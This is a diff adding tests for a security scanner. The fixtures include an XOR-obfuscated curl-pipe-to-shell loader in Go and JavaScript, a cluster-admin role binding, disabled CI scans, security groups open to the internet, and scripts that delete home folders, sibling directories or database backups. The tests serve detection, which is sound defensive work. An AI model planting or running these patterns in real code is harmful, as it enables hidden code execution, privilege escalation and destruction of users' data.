@@ -125,3 +125,144 @@ test('package sources: a Gradle block shown in SKILL.md, a generator template of
     has({ [name]: 'engine-strict=true\nregistry=https://registry.npmjs-edge.invalid/\n' }, `error sentinel/download-exec ${name}:2`);
   quiet({ 'templates/_npmrc': 'engine-strict=true\nsave-exact=true\n' }, 'download-exec');
 });
+
+test('a command XOR-keyed with a word of the file, in Go, JavaScript and Python, and split on NULs into arguments', () => {
+  const cmd = 'curl -fsSL https://tools.invalid/i.sh | sh';
+  const key = 'gitdesc';
+  const bytes = [...cmd].map((c, i) => c.charCodeAt(0) ^ key.charCodeAt(i % key.length));
+  const go = [
+    'package buildinfo',
+    '',
+    'import "os/exec"',
+    '',
+    `var tbl = []byte{${bytes.map((b) => `0x${b.toString(16).padStart(2, '0')}`).join(', ')}}`,
+    `var key = []byte("${key}")`,
+    '',
+    'func init() {',
+    '\tout := make([]byte, len(tbl))',
+    '\tfor i, b := range tbl {',
+    '\t\tout[i] = b ^ key[i%len(key)]',
+    '\t}',
+    '\t_ = exec.Command("/bin/sh", "-c", string(out)).Start()',
+    '}',
+    '',
+  ].join('\n');
+  has({ 'internal/buildinfo/describe.go': go }, 'error sentinel/encoded-exec internal/buildinfo/describe.go:5');
+  const js = [
+    `const key = '${key}';`,
+    `const arr = [${bytes.join(', ')}];`,
+    "const cmd = arr.map((c, i) => String.fromCharCode(c ^ key.charCodeAt(i % key.length))).join('');",
+    "require('child_process').execSync(cmd);",
+    '',
+  ].join('\n');
+  has({ 'scripts/setup.js': js }, 'error sentinel/encoded-exec scripts/setup.js:2');
+  // (the same loop over a table that reads as nothing under any key of the file stays quiet)
+  quiet({ 'scripts/setup.js': js.replace(/const arr = \[[^\]]*\]/, `const arr = [${bytes.map((b) => (b * 7) % 256).join(', ')}]`) }, 'encoded-exec');
+  const parts = ['/bin/sh', '-c', cmd].join('\0');
+  const nul = [...parts].map((c, i) => c.charCodeAt(0) ^ key.charCodeAt(i % key.length));
+  has(
+    { 'internal/buildinfo/describe.go': go.replace(/var tbl = \[\]byte\{[^}]*\}/, `var tbl = []byte{${nul.join(', ')}}`) },
+    'error sentinel/encoded-exec internal/buildinfo/describe.go:5',
+  );
+});
+
+test('configuration: a workload bound to cluster-admin, a CI scan switched off by `if: false`, every port open to the internet', () => {
+  const rbac = (name: string) =>
+    [
+      'apiVersion: rbac.authorization.k8s.io/v1',
+      'kind: ClusterRoleBinding',
+      'metadata:',
+      '  name: erasure-discovery',
+      'roleRef:',
+      '  apiGroup: rbac.authorization.k8s.io',
+      '  kind: ClusterRole',
+      `  name: ${name}`,
+      'subjects:',
+      '- kind: ServiceAccount',
+      '  name: erasure-job',
+      '  namespace: privacy',
+      '',
+    ].join('\n');
+  has({ 'deploy/rbac.yaml': rbac('cluster-admin') }, 'warning sentinel/defence-off deploy/rbac.yaml:8');
+  quiet({ 'deploy/rbac.yaml': rbac('erasure-reader') }, 'defence-off');
+  const ci = (cond: string, step: string) =>
+    ['name: release', 'on: push', 'jobs:', '  scan:', `    if: ${cond}`, '    runs-on: ubuntu-latest', '    steps:', `      - run: ${step}`, ''].join('\n');
+  has({ '.github/workflows/release.yml': ci('${{ false }}', 'clamscan -r .') }, 'warning sentinel/defence-off .github/workflows/release.yml:5');
+  has({ '.github/workflows/release.yml': ci('false', 'trivy fs .') }, 'warning sentinel/defence-off .github/workflows/release.yml:5');
+  quiet({ '.github/workflows/release.yml': ci('false', 'npm run docs') }, 'defence-off');
+  const sg = (kind: string, from: number, to: number, proto: string) =>
+    [
+      'resource "aws_security_group" "game" {',
+      '  name = "game"',
+      `  ${kind} {`,
+      `    from_port   = ${from}`,
+      `    to_port     = ${to}`,
+      `    protocol    = "${proto}"`,
+      '    cidr_blocks = ["0.0.0.0/0"]',
+      '  }',
+      '}',
+      '',
+    ].join('\n');
+  has({ 'infra/main.tf': sg('ingress', 0, 65535, 'tcp') }, 'error sentinel/defence-off infra/main.tf:7');
+  has({ 'infra/main.tf': sg('ingress', 0, 0, '-1') }, 'error sentinel/defence-off infra/main.tf:7');
+  quiet({ 'infra/main.tf': sg('egress', 0, 0, '-1') }, 'defence-off');
+  quiet({ 'infra/main.tf': sg('ingress', 25565, 25565, 'tcp') }, 'defence-off');
+});
+
+test("deletes: the siblings of the folder the user names, the home folder through an unset variable, a database's backups", () => {
+  const reset = (arg: string) =>
+    [
+      'import argparse, shutil',
+      'from pathlib import Path',
+      '',
+      'def fresh(server: Path):',
+      `    root = server.resolve()${arg}`,
+      '    for child in root.iterdir():',
+      '        if child.is_dir():',
+      '            shutil.rmtree(child, ignore_errors=True)',
+      '',
+      'ap = argparse.ArgumentParser()',
+      'ap.add_argument("server")',
+      'fresh(Path(ap.parse_args().server))',
+      '',
+    ].join('\n');
+  has({ 'scripts/reset_world.py': reset('.parent') }, 'error sentinel/silent-delete scripts/reset_world.py:8');
+  quiet({ 'scripts/reset_world.py': reset(' / "world"') }, 'silent-delete');
+  const go = (sub: string) =>
+    [
+      'package covutil',
+      '',
+      'import (',
+      '\t"os"',
+      '\t"path/filepath"',
+      ')',
+      '',
+      `var cacheSub = ${sub}`,
+      '',
+      'func cacheRoot() string {',
+      '\thome, _ := os.UserHomeDir()',
+      '\treturn filepath.Join(home, cacheSub)',
+      '}',
+      '',
+      'func Purge() {',
+      '\tif root := cacheRoot(); root != "" {',
+      '\t\t_ = os.RemoveAll(root)',
+      '\t}',
+      '}',
+      '',
+    ].join('\n');
+  has({ 'third_party/covutil/scratch.go': go('os.Getenv("COVUTIL_CACHE_SUBDIR")') }, 'error sentinel/silent-delete third_party/covutil/scratch.go:17');
+  quiet({ 'third_party/covutil/scratch.go': go('".cache/covutil"') }, 'silent-delete');
+  const py = (dflt: string) =>
+    [
+      'import os, shutil',
+      `target = os.path.join(os.path.expanduser("~"), os.environ.get("STATE_DIR", ${dflt}))`,
+      'shutil.rmtree(target, ignore_errors=True)',
+      '',
+    ].join('\n');
+  has({ 'scripts/reset.py': py('""') }, 'error sentinel/silent-delete scripts/reset.py:3');
+  quiet({ 'scripts/reset.py': py('".jupyter-state"') }, 'silent-delete');
+  has({ 'sql/03_purge.sql': 'DROP SCHEMA backups CASCADE;\nTRUNCATE TABLE access_audit_log;\n' }, 'error sentinel/destructive-command sql/03_purge.sql:1');
+  has({ 'sql/09_cleanup.sql': 'DROP TABLE IF EXISTS users_backup_2024;\n' }, 'warning sentinel/destructive-command sql/09_cleanup.sql:1');
+  quiet({ 'sql/09_cleanup.sql': 'DROP TABLE IF EXISTS tmp_import;\nDROP TABLE user_backup_codes;\n' }, 'destructive-command');
+});
